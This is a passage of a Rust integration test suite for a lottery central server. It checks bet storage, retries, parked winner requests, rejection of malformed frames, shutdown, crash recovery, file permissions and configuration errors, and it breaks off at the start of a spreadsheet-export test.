//! The central (`lottery-server`) driven over real sockets with raw frames:
//! storing, parking, the draw, the protocol's errors, hostile bytes,
//! shutdown and restart.

mod util;

use std::time::{Duration, Instant};

use lottery::bets::bet::Bet;
use lottery::wire::{self, Date, ErrorCode, kind};
use util::{Central, Peer, RawFrame, temp_dir};

fn bet(first: &str, document: &str, number: u16) -> Bet {
    Bet {
        first_name: first.into(),
        last_name: "Lorca".into(),
        document: document.into(),
        birthdate: Date {
            year: 1999,
            month: 3,
            day: 17,
        },
        number,
    }
}

fn batch(agency: u32, first: u32, bets: &[Bet]) -> Vec<u8> {
    let refs: Vec<_> = bets.iter().map(Bet::as_ref).collect();
    let mut out = Vec::new();
    wire::encode_batch(&mut out, agency, first, &refs);
    out
}

fn done(agency: u32, total: u32) -> Vec<u8> {
    let mut out = Vec::new();
    wire::encode_done(&mut out, agency, total);
    out
}

fn get_winners(agency: u32, wait: bool) -> Vec<u8> {
    let mut out = Vec::new();
    wire::encode_get_winners(&mut out, agency, wait);
    out
}

fn assert_ack(frame: &RawFrame, agency: u32, stored: u32) {
    assert_eq!(frame.kind, kind::ACK, "{frame:?}");
    assert_eq!((frame.u32_at(0), frame.u32_at(4)), (agency, stored));
}

fn assert_error(frame: &RawFrame, code: ErrorCode, detail: u32) {
    assert_eq!(frame.kind, kind::ERROR, "{frame:?}");
    assert_eq!(
        (
            frame.body[0],
            u32::from_be_bytes(frame.body[1..5].try_into().unwrap())
        ),
        (code as u8, detail)
    );
}

/// Reads WINNERS frames up to the one with last = 1; returns (total, documents).
fn recv_winners(peer: &mut Peer, agency: u32) -> (u32, Vec<String>) {
    let mut docs = Vec::new();
    loop {
        let f = peer.recv();
        assert_eq!(f.kind, kind::WINNERS, "{f:?}");
        let mut bytes = vec![0, 0, kind::WINNERS];
        bytes.extend_from_slice(&f.body);
        let len = (bytes.len() - 2) as u16;
        bytes[..2].copy_from_slice(&len.to_be_bytes());
        let (
            wire::Frame::Winners {
                agency: a,
                total,
                last,
                documents,
            },
            _,
        ) = wire::decode(&bytes).unwrap().unwrap()
        else {
            unreachable!()
        };
        assert_eq!(a, agency);
        docs.extend(documents.iter().map(str::to_owned));
        if last {
            assert_eq!(docs.len() as u32, total);
            return (total, docs);
        }
    }
}

/// Stores `n` winning bets for `agency` in batches of 200, each ACK checked;
/// returns them.
fn store_winning_bets(peer: &mut Peer, agency: u32, n: usize) -> Vec<Bet> {
    let bets: Vec<Bet> = (0..n)
        .map(|i| bet("A", &format!("{i:016}"), 7574))
        .collect();
    let mut sent = 0;
    for chunk in bets.chunks(200) {
        peer.send(&batch(agency, sent, chunk));
        sent += chunk.len() as u32;
        assert_ack(&peer.recv(), agency, sent);
    }
    bets
}

/// Closes `agencies` with no bets (except those listed as already sent).
fn close_agencies(peer: &mut Peer, agencies: impl IntoIterator<Item = u32>) {
    for agency in agencies {
        peer.send(&done(agency, 0));
        assert_ack(&peer.recv(), agency, 0);
    }
}

#[test]
fn a_batch_is_stored_in_the_course_format_and_acknowledged() {
    let dir = temp_dir("stored");
    let central = Central::start(&dir, 2, &[]);
    let mut peer = central.connect();
    peer.send(&batch(
        1,
        0,
        &[
            bet("Ana María", "00123", 7574),
            bet("Pérez, \"hijo\"", "9", 1),
        ],
    ));
    assert_ack(&peer.recv(), 1, 2);
    assert_eq!(
        central.bets_csv(),
        "1,Ana María,Lorca,00123,1999-03-17,7574\r\n1,\"Pérez, \"\"hijo\"\"\",Lorca,9,1999-03-17,1\r\n"
    );
    assert!(
        central
            .logs()
            .contains("action: apuesta_recibida | result: success | cantidad: 2\n")
    );
}

#[test]
fn retries_and_overlaps_store_each_bet_once_and_gaps_are_out_of_order() {
    let dir = temp_dir("overlap");
    let central = Central::start(&dir, 1, &[]);
    let mut peer = central.connect();
    let bets: Vec<Bet> = (0..6).map(|i| bet("A", &i.to_string(), i)).collect();
    peer.send(&batch(1, 0, &bets[..3]));
    assert_ack(&peer.recv(), 1, 3);
    peer.send(&batch(1, 0, &bets[..3]));
    assert_ack(&peer.recv(), 1, 3);
    peer.send(&batch(1, 2, &bets[2..5]));
    assert_ack(&peer.recv(), 1, 5);
    peer.send(&batch(1, 6, &bets[5..]));
    assert_error(&peer.recv(), ErrorCode::OutOfOrder, 5);
    peer.send(&batch(1, 5, &bets[5..]));
    assert_ack(&peer.recv(), 1, 6);
    let documents: Vec<String> = central
        .bets_csv()
        .lines()
        .map(|l| l.split(',').nth(3).unwrap().to_owned())
        .collect();
    assert_eq!(documents, ["0", "1", "2", "3", "4", "5"]);
}

#[test]
fn an_invalid_bet_stores_nothing_of_its_batch_and_the_connection_stays_open() {
    let dir = temp_dir("invalid");
    let central = Central::start(&dir, 1, &[]);
    let mut peer = central.connect();
    let mut bad = bet("B", "12a", 1);
    peer.send(&batch(1, 0, &[bet("A", "1", 1), bad.clone()]));
    assert_error(&peer.recv(), ErrorCode::InvalidBet, 1);
    bad.document = "12".into();
    bad.birthdate = Date {
        year: 2001,
        month: 2,
        day: 29,
    };
    peer.send(&batch(1, 0, &[bad]));
    assert_error(&peer.recv(), ErrorCode::InvalidBet, 0);
    assert_eq!(central.bets_csv(), "");
    peer.send(&batch(1, 0, &[bet("A", "1", 1)]));
    assert_ack(&peer.recv(), 1, 1);
    assert!(
        central
            .logs()
            .contains("action: apuesta_recibida | result: fail | cantidad: 2")
    );
}

#[test]
fn unknown_agencies_closed_agencies_and_wrong_totals_get_their_errors() {
    let dir = temp_dir("errors");
    let central = Central::start(&dir, 2, &[]);
    let mut peer = central.connect();
    peer.send(&batch(3, 0, &[bet("A", "1", 1)]));
    assert_error(&peer.recv(), ErrorCode::UnknownAgency, 3);
    peer.send(&done(0, 0));
    assert_error(&peer.recv(), ErrorCode::UnknownAgency, 0);
    peer.send(&get_winners(9, false));
    assert_error(&peer.recv(), ErrorCode::UnknownAgency, 9);
    peer.send(&batch(1, 0, &[bet("A", "1", 1)]));
    assert_ack(&peer.recv(), 1, 1);
    peer.send(&done(1, 2));
    assert_error(&peer.recv(), ErrorCode::MissingBets, 1);
    peer.send(&done(1, 1));
    assert_ack(&peer.recv(), 1, 1);
    peer.send(&done(1, 1));
    assert_ack(&peer.recv(), 1, 1);
    peer.send(&batch(1, 1, &[bet("A", "2", 1)]));
    assert_error(&peer.recv(), ErrorCode::AgencyClosed, 1);
}

#[test]
fn wait_zero_before_the_draw_gets_not_ready_at_once() {
    let dir = temp_dir("not-ready");
    let central = Central::start(&dir, 3, &[]);
    close_agencies(&mut central.connect(), [2]);
    let mut peer = central.connect();
    peer.send(&get_winners(1, false));
    let f = peer.recv();
    assert_eq!(f.kind, kind::NOT_READY);
    assert_eq!((f.u32_at(0), f.u32_at(4)), (1, 3));
}

#[test]
fn a_parked_request_is_answered_right_after_the_draw_and_not_before() {
    let dir = temp_dir("parked");
    let central = Central::start(&dir, 2, &[]);
    let mut agency1 = central.connect();
    agency1.send(&batch(
        1,
        0,
        &[
            bet("A", "111", 7574),
            bet("B", "222", 5),
            bet("C", "333", 7574),
        ],
    ));
    assert_ack(&agency1.recv(), 1, 3);
    agency1.send(&done(1, 3));
    assert_ack(&agency1.recv(), 1, 3);
    agency1.send(&get_winners(1, true));
    agency1.set_timeout(Duration::from_millis(500));
    assert!(agency1.try_recv().is_none(), "no answer before the draw");
    assert!(!central.logs().contains("action: sorteo"));

    let mut agency2 = central.connect();
    agency2.send(&batch(2, 0, &[bet("D", "444", 7574)]));
    assert_ack(&agency2.recv(), 2, 1);
    agency2.send(&done(2, 1));
    let closed_at = Instant::now();
    assert_ack(&agency2.recv(), 2, 1);
    agency1.set_timeout(Duration::from_secs(5));
    let (total, docs) = recv_winners(&mut agency1, 1);
    assert!(
        closed_at.elapsed() < Duration::from_secs(1),
        "answered right after the draw"
    );
    assert_eq!(
        (total, docs),
        (2, vec!["111".to_string(), "333".to_string()])
    );
    agency2.send(&get_winners(2, false));
    assert_eq!(recv_winners(&mut agency2, 2), (1, vec!["444".to_string()]));
    let logs = central.logs();
    assert_eq!(logs.matches("action: sorteo | result: success").count(), 1);
    assert!(
        logs.contains(
            "action: ganadores_enviados | result: success | agencia: 1 | cant_ganadores: 2"
        )
    );
}

#[test]
fn frames_behind_a_parked_request_wait_and_are_answered_in_order() {
    let dir = temp_dir("pipelined");
    let central = Central::start(&dir, 2, &[]);
    let mut agency1 = central.connect();
    let mut pipelined = done(1, 0);
    pipelined.extend(get_winners(1, true));
    pipelined.extend(get_winners(1, false));
    pipelined.extend(done(1, 0));
    agency1.send(&pipelined);
    assert_ack(&agency1.recv(), 1, 0);
    agency1.set_timeout(Duration::from_millis(300));
    assert!(agency1.try_recv().is_none());
    let mut agency2 = central.connect();
    close_agencies(&mut agency2, [2]);
    agency1.set_timeout(Duration::from_secs(5));
    assert_eq!(recv_winners(&mut agency1, 1), (0, vec![]));
    assert_eq!(recv_winners(&mut agency1, 1), (0, vec![]));
    assert_ack(&agency1.recv(), 1, 0);
}

#[test]
fn a_parked_request_gets_not_ready_after_the_park_timeout() {
    let dir = temp_dir("park-timeout");
    let central = Central::start(&dir, 2, &[("PARK_TIMEOUT_MS", "300")]);
    let mut peer = central.connect();
    let asked = Instant::now();
    peer.send(&get_winners(1, true));
    let f = peer.recv();
    assert_eq!(f.kind, kind::NOT_READY);
    assert!(asked.elapsed() >= Duration::from_millis(300));
    // It may ask again.
    peer.send(&get_winners(1, false));
    assert_eq!(peer.recv().kind, kind::NOT_READY);
}

#[test]
fn a_parked_agency_that_disconnects_is_forgotten() {
    let dir = temp_dir("forgotten");
    let central = Central::start(&dir, 1, &[("LOGGING_LEVEL", "DEBUG")]);
    {
        let mut parked = central.connect();
        parked.send(&get_winners(1, true));
        std::thread::sleep(Duration::from_millis(200));
    }
    std::thread::sleep(Duration::from_millis(200));
    assert!(
        central
            .logs()
            .contains("action: olvidar_pedido | result: success | agencia: 1")
    );
    let mut peer = central.connect();
    close_agencies(&mut peer, [1]);
    peer.send(&get_winners(1, false));
    assert_eq!(recv_winners(&mut peer, 1), (0, vec![]));
}

#[test]
fn a_long_winner_list_spans_several_frames() {
    let dir = temp_dir("long-winners");
    let central = Central::start(&dir, 1, &[]);
    let mut peer = central.connect();
    let bets = store_winning_bets(&mut peer, 1, 3000);
    let sent = bets.len() as u32;
    peer.send(&done(1, sent));
    assert_ack(&peer.recv(), 1, sent);
    peer.send(&get_winners(1, false));
    let (total, docs) = recv_winners(&mut peer, 1);
    assert_eq!(total, 3000);
    assert_eq!(
        docs,
        bets.iter().map(|b| b.document.clone()).collect::<Vec<_>>()
    );
}

/// Agency 1 of a two-agency central stores `winners` winning bets, then
/// sends DONE, a GET_WINNERS that parks, and DONE again behind it; returns
/// its connection (the first DONE acknowledged) and the bets.
fn park_behind_done(central: &Central, winners: usize) -> (Peer, Vec<Bet>) {
    let mut agency1 = central.connect();
    let bets = store_winning_bets(&mut agency1, 1, winners);
    let sent = bets.len() as u32;
    let mut asked = done(1, sent);
    asked.extend(get_winners(1, true));
    asked.extend(done(1, sent));
    agency1.send(&asked);
    assert_ack(&agency1.recv(), 1, sent);
    (agency1, bets)
}

/// The parked request's answer arrives whole, every winner in stored
/// order, and then the ACK of the DONE pipelined behind it.
fn assert_answered_whole(agency1: &mut Peer, bets: &[Bet]) {
    let (total, docs) = recv_winners(agency1, 1);
    assert_eq!(total, bets.len() as u32);
    assert_eq!(
        docs,
        bets.iter().map(|b| b.document.clone()).collect::<Vec<_>>()
    );
    assert_ack(&agency1.recv(), 1, bets.len() as u32);
}

#[test]
fn a_long_winner_list_parked_before_the_draw_arrives_whole_with_what_was_sent_behind_it() {
    // More WINNERS bytes than a connection's output may hold at once: the
    // answer to a parked request goes out over several writes, and the
    // request pipelined behind it is answered after its last frame.
    let dir = temp_dir("long-parked");
    let central = Central::start(&dir, 2, &[]);
    let (mut agency1, bets) = park_behind_done(&central, 3000);
    agency1.set_timeout(Duration::from_millis(300));
    assert!(agency1.try_recv().is_none(), "no answer before the draw");

    let mut agency2 = central.connect();
    close_agencies(&mut agency2, [2]);
    agency1.set_timeout(Duration::from_secs(5));
    assert_answered_whole(&mut agency1, &bets);
}

#[test]
fn a_parked_agency_that_reads_late_gets_its_whole_answer_once_its_socket_takes_it() {
    // About 1 MB of WINNERS, far more than the sockets between the two
    // hold: the draw's write stops at a full socket, the rest waits in the
    // central's output and goes out as the agency reads, in order, whole.
    let dir = temp_dir("late-reader");
    let central = Central::start(&dir, 2, &[]);
    let (mut agency1, bets) = park_behind_done(&central, 60_000);

    let mut agency2 = central.connect();
    close_agencies(&mut agency2, [2]);
    // Not reading while the central writes the answer.
    std::thread::sleep(Duration::from_millis(500));
    agency1.set_timeout(Duration::from_secs(10));
    assert_answered_whole(&mut agency1, &bets);
}

#[test]
fn garbage_gets_an_error_and_a_close_while_another_agency_finishes() {
    let dir = temp_dir("garbage");
    let central = Central::start(&dir, 1, &[]);
    let mut honest = central.connect();
    honest.send(&batch(1, 0, &[bet("A", "1", 7574)]));
    assert_ack(&honest.recv(), 1, 1);

    for (garbage, code, detail) in [
        (&b"\x00\x00"[..], ErrorCode::Malformed, 0),
        (&b"\xff\xff\x02"[..], ErrorCode::TooLarge, 0xffff),
        (&b"\x00\x03\x2aab"[..], ErrorCode::UnknownType, 0x2a),
        (&b"\x00\x03\x03ab"[..], ErrorCode::Malformed, 0),
        (
            &b"\x00\x09\x01\x00\x00\x00\x01\x00\x00\x00\x01"[..],
            ErrorCode::UnknownType,
            1,
        ),
    ] {
        let mut hostile = central.connect();
        hostile.send(garbage);
        assert_error(&hostile.recv(), code, detail);
        assert!(hostile.closed_by_peer(), "closed after {code}");
    }

    honest.send(&done(1, 1));
    assert_ack(&honest.recv(), 1, 1);
    honest.send(&get_winners(1, true));
    assert_eq!(recv_winners(&mut honest, 1), (1, vec!["1".to_string()]));
}

#[test]
fn a_frame_sent_one_byte_at_a_time_is_reassembled() {
    let dir = temp_dir("bytewise");
    let central = Central::start(&dir, 1, &[]);
    let mut peer = central.connect();
    for b in batch(1, 0, &[bet("Nicolás", "42", 3)]) {
        peer.send(&[b]);
        std::thread::sleep(Duration::from_millis(2));
    }
    assert_ack(&peer.recv(), 1, 1);
}

#[test]
fn sigterm_answers_parked_requests_with_shutting_down_and_exits_zero() {
    let dir = temp_dir("sigterm");
    let mut central = Central::start(&dir, 2, &[]);
    let mut parked = central.connect();
    parked.send(&batch(1, 0, &[bet("A", "1", 1)]));
    assert_ack(&parked.recv(), 1, 1);
    parked.send(&get_winners(1, true));
    std::thread::sleep(Duration::from_millis(100));
    let status = central.signal_and_wait("TERM", Duration::from_secs(2));
    assert_eq!(status.code(), Some(0));
    assert_error(&parked.recv(), ErrorCode::ShuttingDown, 0);
    let logs = central.logs();
    for line in [
        "action: shutdown | result: in_progress | signal: SIGTERM",
        "action: cerrar_listener | result: success",
        "action: cerrar_conexion | result: success",
        "action: cerrar_archivo | result: success",
        "action: shutdown | result: success | signal: SIGTERM",
    ] {
        assert!(logs.contains(line), "missing {line:?} in {logs}");
    }
    assert_eq!(central.bets_csv().lines().count(), 1);
}

#[test]
fn a_restarted_central_resumes_stored_counts_closes_and_the_draw() {
    let dir = temp_dir("restart");
    let port = util::free_port();
    {
        let mut central = Central::start_on(&dir, port, 2, &[]);
        let mut peer = central.connect();
        peer.send(&batch(1, 0, &[bet("A", "1", 7574), bet("B", "2", 1)]));
        assert_ack(&peer.recv(), 1, 2);
        peer.send(&done(1, 2));
        assert_ack(&peer.recv(), 1, 2);
        let mut peer = central.connect();
        peer.send(&batch(2, 0, &[bet("C", "3", 7574)]));
        assert_ack(&peer.recv(), 2, 1);
        assert_eq!(
            central
                .signal_and_wait("KILL", Duration::from_secs(2))
                .code(),
            None
        );
    }
    // A torn row, as a crash in the middle of a write would leave.
    use std::io::Write;
    std::fs::OpenOptions::new()
        .append(true)
        .open(dir.join("bets.csv"))
        .unwrap()
        .write_all(b"2,Half")
        .unwrap();

    let central = Central::start_on(&dir, port, 2, &[]);
    assert!(
        central
            .logs()
            .contains("action: recuperar | result: success | apuestas: 3 | agencias_cerradas: 1")
    );
    let mut peer = central.connect();
    peer.send(&batch(2, 0, &[bet("C", "3", 7574), bet("D", "4", 2)]));
    assert_ack(&peer.recv(), 2, 2);
    let mut agency1 = central.connect();
    agency1.send(&batch(1, 2, &[bet("E", "5", 1)]));
    assert_error(&agency1.recv(), ErrorCode::AgencyClosed, 2);
    peer.send(&done(2, 2));
    assert_ack(&peer.recv(), 2, 2);
    let mut peer = agency1;
    peer.send(&get_winners(1, false));
    assert_eq!(recv_winners(&mut peer, 1), (1, vec!["1".to_string()]));
    let rows: Vec<String> = central.bets_csv().lines().map(str::to_owned).collect();
    assert_eq!(rows.len(), 4, "{rows:?}");
    assert!(rows[3].starts_with("2,D,"));
}

#[test]
fn bets_csv_and_the_journal_are_readable_by_their_owner_only_and_older_ones_are_restricted() {
    use std::os::unix::fs::PermissionsExt;
    // The common umask, under which a file created with the default mode
    // is readable by everyone. SAFETY: umask only sets this process's mask,
    // which the central inherits.
    unsafe { libc::umask(0o022) };
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let dir = temp_dir("modes");
    let (bets_csv, journal) = (dir.join("bets.csv"), dir.join("bets.csv.journal"));
    let central = Central::start(&dir, 1, &[]);
    let mut peer = central.connect();
    peer.send(&batch(1, 0, &[bet("Ana", "1", 5)]));
    assert_ack(&peer.recv(), 1, 1);
    peer.send(&done(1, 1));
    assert_ack(&peer.recv(), 1, 1);
    assert_eq!(
        (mode(&bets_csv), mode(&journal)),
        (0o600, 0o600),
        "the files the central created"
    );
    drop(central);

    // Files an older version made readable by others.
    for f in [&bets_csv, &journal] {
        std::fs::set_permissions(f, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    let central = Central::start(&dir, 1, &[]);
    assert_eq!(
        (mode(&bets_csv), mode(&journal)),
        (0o600, 0o600),
        "restricted at start"
    );
    for f in [&bets_csv, &journal] {
        let line = format!(
            "action: restringir_permisos | result: success | archivo: {} | modo_anterior: 644 | modo: 600",
            f.display()
        );
        assert!(
            central.logs().contains(&line),
            "no {line:?} in {}",
            central.logs()
        );
    }
    assert!(
        central
            .logs()
            .contains("apuestas: 1 | agencias_cerradas: 1")
    );
}

#[test]
fn files_of_a_lottery_with_more_agencies_are_explained_plainly_and_exit_code_1() {
    let dir = temp_dir("other-lottery");
    // A finished lottery of 5 agencies, then a central for 3 on its files.
    std::fs::write(
        dir.join("bets.csv"),
        "1,A,B,1,1999-01-01,5\r\n4,A,B,2,1999-01-01,7574\r\n",
    )
    .unwrap();
    std::fs::write(dir.join("bets.csv.journal"), "DONE 1 1\nDONE 4 1\n").unwrap();
    let out = std::process::Command::new(util::server_bin())
        .current_dir(&dir)
        .env_clear()
        .env("SERVER_IP", "127.0.0.1")
        .env("SERVER_PORT", util::free_port().to_string())
        .env("AGENCIES", "3")
        .env("BETS_FILE", dir.join("bets.csv"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!err.contains("is corrupt"), "{err}");
    for needed in [
        dir.join("bets.csv").display().to_string(),
        dir.join("bets.csv.journal").display().to_string(),
        "hold another lottery".into(),
        "agency 4".into(),
        "AGENCIES=3".into(),
        "To start a new lottery, move or delete both files (or set BETS_FILE".into(),
    ] {
        assert!(err.contains(&needed), "no {needed:?} in: {err}");
    }
    // Nothing was changed.
    assert_eq!(
        std::fs::read_to_string(dir.join("bets.csv.journal")).unwrap(),
        "DONE 1 1\nDONE 4 1\n"
    );
}

#[test]
fn a_bad_config_value_is_a_clear_error_and_exit_code_2() {
    let dir = temp_dir("bad-config");
    let out = std::process::Command::new(util::server_bin())
        .current_dir(&dir)
        .env("SERVER_PORT", "http")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("SERVER_PORT") && err.contains("http"), "{err}");
    std::fs::write(dir.join("config.ini"), "[DEFAULT]\nAGENCIES = none\n").unwrap();
    let out = std::process::Command::new(util::server_bin())
        .current_dir(&dir)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("config.ini"));
}

#[test]
fn a_misspelt_key_in_config_ini_stops_the_central_naming_the_file_and_line() {
    let dir = temp_dir("misspelt-config");
    std::fs::write(
        dir.join("config.ini"),
        "[DEFAULT]\nLOGGING_LEVEL = INFO\nWINING_NUMBER = 1234\n",
    )
    .unwrap();
    let mut child = std::process::Command::new(util::server_bin())
        .current_dir(&dir)
        .env_clear()
        .env("SERVER_IP", "127.0.0.1")
        .env("SERVER_PORT", util::free_port().to_string())
        .env("BETS_FILE", dir.join("bets.csv"))
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(20);
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if Instant::now() > deadline {
            child.kill().unwrap();
            child.wait().unwrap();
            panic!("the central started with WINING_NUMBER in its config.ini");
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    let mut err = String::new();
    std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut err).unwrap();
    assert_eq!(status.code(), Some(2), "{err}");
    assert!(
        err.contains("bad configuration: config.ini:3: unknown key WINING_NUMBER"),
        "{err}"
    );
    assert!(!dir.join("bets.csv").exists());
}

#[test]
fn requests_pipelined_behind_a_done_are_answered_from_the_state_after_it() {
    let dir = temp_dir("behind-done");
    let central = Central::start(&dir, 3, &[]);
    let mut peer = central.connect();
    // Behind the DONE of agency 2 (not the last): NOT_READY counts it.
    let mut pipelined = done(2, 0);
    pipelined.extend(get_winners(2, false));
    peer.send(&pipelined);
    assert_ack(&peer.recv(), 2, 0);
    let f = peer.recv();
    assert_eq!(f.kind, kind::NOT_READY);
    assert_eq!((f.u32_at(0), f.u32_at(4)), (1, 3));
    close_agencies(&mut central.connect(), [1]);
    // Behind the DONE of the last agency, even wait=0 gets the winners.
    let mut peer = central.connect();
    let mut pipelined = batch(3, 0, &[bet("A", "42", 7574)]);
    pipelined.extend(done(3, 1));
    pipelined.extend(get_winners(3, false));
    peer.send(&pipelined);
    assert_ack(&peer.recv(), 3, 1);
    assert_ack(&peer.recv(), 3, 1);
    assert_eq!(recv_winners(&mut peer, 3), (1, vec!["42".to_string()]));
}

/// A retry of stored bets is ACKed again and stores nothing: 45 bytes in
/// must not be a log line out each time. Retries are counted, and the
/// count is logged at most once a second; stored batches keep their line.
#[test]
fn a_retried_batch_is_counted_not_logged() {
    let dir = temp_dir("retry-log");
    let central = Central::start(&dir, 1, &[]);
    let mut peer = central.connect();
    let stored = batch(1, 0, &[bet("A", "1", 1)]);
    peer.send(&stored);
    assert_ack(&peer.recv(), 1, 1);
    let retries = 1_000;
    let started = Instant::now();
    for _ in 0..retries {
        peer.send(&stored);
        assert_ack(&peer.recv(), 1, 1);
    }
    let counted_in = |logs: &str| -> u64 {
        logs.lines()
            .filter_map(|l| {
                l.split("action: lotes_reintentados | result: success | lotes: ")
                    .nth(1)
            })
            .map(|n| n.trim().parse::<u64>().unwrap())
            .sum()
    };
    // The last count is logged once its second has ended.
    let deadline = Instant::now() + Duration::from_secs(10);
    while counted_in(&central.logs()) < retries && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    let logs = central.logs();
    let lines = logs
        .lines()
        .filter(|l| l.contains("cantidad: 0") || l.contains("lotes_reintentados"))
        .count() as u64;
    let seconds = started.elapsed().as_secs();
    assert!(
        lines <= seconds + 2,
        "{retries} retries in {seconds} s made {lines} log lines"
    );
    assert_eq!(counted_in(&logs), retries, "{logs}");
    assert_eq!(util::stored_in_logs(&logs), 1);
    assert_eq!(
        logs.matches("action: apuesta_recibida | result: success | cantidad: 1\n")
            .count(),
        1
    );
}

#[test]
fn a_peer_repeating_a_refused_request_gets_every_answer_but_a_bounded_log() {
    let dir = temp_dir("refusal-log");
    let central = Central::start(&dir, 1, &[]);
    let mut peer = central.connect();
    let repeats = 500;
    let burst: Vec<u8> = (0..repeats).flat_map(|_| done(7, 0)).collect();
    peer.send(&burst);
    for _ in 0..repeats {
        assert_error(&peer.recv(), ErrorCode::UnknownAgency, 7);
    }
    drop(peer);
    std::thread::sleep(Duration::from_millis(300));
    let logs = central.logs();
    assert_eq!(
        logs.matches("action: agencia_cerrada | result: fail")
            .count(),
        20
    );
    assert!(
        logs.contains(&format!("lineas_sin_registrar: {}", repeats - 20)),
        "{logs}"
    );
}

#[test]
fn a_connection_naming_a_second_agency_is_forbidden_closed_and_stores_nothing_of_it() {
    let dir = temp_dir("bind-batch");
    let central = Central::start(&dir, 2, &[]);
    let mut peer = central.connect();
    peer.send(&batch(1, 0, &[bet("A", "1", 1)]));
    assert_ack(&peer.recv(), 1, 1);
    peer.send(&batch(2, 0, &[bet("B", "2", 2)]));
    assert_error(&peer.recv(), ErrorCode::Forbidden, 2);
    assert!(peer.closed_by_peer(), "FORBIDDEN closes the connection");
    let rows = central.bets_csv();
    assert_eq!(rows.lines().count(), 1, "{rows}");
    assert!(rows.starts_with("1,A,"));
    assert!(
        central
            .logs()
            .contains("action: verificar_agencia | result: fail | peer: 127.0.0.1")
    );
    // Agency 2 over a connection of its own still stores from 0.
    let mut agency2 = central.connect();
    agency2.send(&batch(2, 0, &[bet("B", "2", 2)]));
    assert_ack(&agency2.recv(), 2, 1);
}

#[test]
fn get_winners_for_another_agency_on_a_bound_connection_is_forbidden_and_closed() {
    let dir = temp_dir("bind-winners");
    let central = Central::start(&dir, 2, &[]);
    let mut peer = central.connect();
    peer.send(&get_winners(1, false));
    assert_eq!(peer.recv().kind, kind::NOT_READY);
    peer.send(&get_winners(2, false));
    assert_error(&peer.recv(), ErrorCode::Forbidden, 2);
    assert!(peer.closed_by_peer());
}

#[test]
fn a_strangers_done_cannot_close_an_agency_over_a_connection_bound_to_another() {
    let dir = temp_dir("bind-done");
    let central = Central::start(&dir, 2, &[]);
    let mut stranger = central.connect();
    stranger.send(&done(1, 0));
    assert_ack(&stranger.recv(), 1, 0);
    stranger.send(&done(2, 0));
    assert_error(&stranger.recv(), ErrorCode::Forbidden, 2);
    assert!(stranger.closed_by_peer());
    // Agency 2 is still open: its bets are taken and nothing was drawn.
    let mut agency2 = central.connect();
    agency2.send(&batch(2, 0, &[bet("B", "2", 7574)]));
    assert_ack(&agency2.recv(), 2, 1);
    agency2.send(&get_winners(2, false));
    let f = agency2.recv();
    assert_eq!(f.kind, kind::NOT_READY);
    assert_eq!((f.u32_at(0), f.u32_at(4)), (1, 2));
    assert!(!central.logs().contains("action: sorteo"));
}

#[test]
fn the_last_done_and_a_wait_zero_request_then_a_half_close_get_their_ack_and_winners() {
    let dir = temp_dir("half-close-draw");
    let central = Central::start(&dir, 2, &[]);
    close_agencies(&mut central.connect(), [1]);
    let mut peer = central.connect();
    peer.send(&batch(2, 0, &[bet("A", "42", 7574)]));
    assert_ack(&peer.recv(), 2, 1);
    let mut pipelined = done(2, 1);
    pipelined.extend(get_winners(2, false));
    peer.send(&pipelined);
    peer.stream.shutdown(std::net::Shutdown::Write).unwrap();
    assert_ack(&peer.recv(), 2, 1);
    assert_eq!(recv_winners(&mut peer, 2), (1, vec!["42".to_string()]));
    assert!(peer.closed_by_peer(), "closed once everything owed is sent");
}

#[test]
fn a_half_close_behind_a_parked_request_still_gets_the_replies_owed_before_it() {
    let dir = temp_dir("half-close-parked");
    let central = Central::start(&dir, 2, &[("LOGGING_LEVEL", "DEBUG")]);
    let mut peer = central.connect();
    let mut pipelined = done(1, 0);
    pipelined.extend(get_winners(1, true));
    peer.send(&pipelined);
    peer.stream.shutdown(std::net::Shutdown::Write).unwrap();
    assert_ack(&peer.recv(), 1, 0);
    assert!(
        peer.closed_by_peer(),
        "the parked request of a gone peer is dropped"
    );
    assert!(
        central
            .logs()
            .contains("action: olvidar_pedido | result: success | agencia: 1")
    );
}

#[test]
fn a_parked_agency_with_a_full_input_buffer_that_hangs_up_is_forgotten_at_once() {
    let dir = temp_dir("hang-up-full");
    let central = Central::start(
        &dir,
        1,
        &[("LOGGING_LEVEL", "DEBUG"), ("PARK_TIMEOUT_MS", "60000")],
    );
    {
        let mut parked = central.connect();
        parked.send(&get_winners(1, true));
        // Far more than the central buffers for a parked connection.
        let behind: Vec<u8> = (0..6000).flat_map(|_| done(1, 0)).collect();
        parked.send(&behind);
        std::thread::sleep(Duration::from_millis(200));
    }
    let deadline = Instant::now() + Duration::from_secs(5);
    while !central.logs().contains("action: olvidar_pedido") && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(
        central
            .logs()
            .contains("action: olvidar_pedido | result: success | agencia: 1"),
        "the hang-up was not noticed"
    );
}

// ---------------------------------------------------------------------------
// lottery-export on the CSV store.

/// Runs `lottery-export` with the CSV store of `dir` and `args`; returns
/// whether it succeeded and what it wrote on stderr.
fn lottery_export(dir: &std::path::Path, args: &[&str]) -> (bool, String) {
    let out = std::process::Command::new(util::server_bin().with_file_name("lottery-export"))
        .current_dir(dir)
        .env_clear()
        .env("STORAGE", "csv")
        .env("BETS_FILE", dir.join("bets.csv"))
        .args(args)
        .output()
        .unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn lottery_export_spreadsheet_safe_puts_a_quote_mark_before_each_name_that_starts_a_formula() {
    let dir = temp_dir("export-safe");
    let central = Central::start(&dir, 1, &[]);
    // What a valid name can start with: no control characters, so no tab
    // or carriage return, but `=`, `+`, `-` and `@` are letters like others.
    let mut bets = vec![
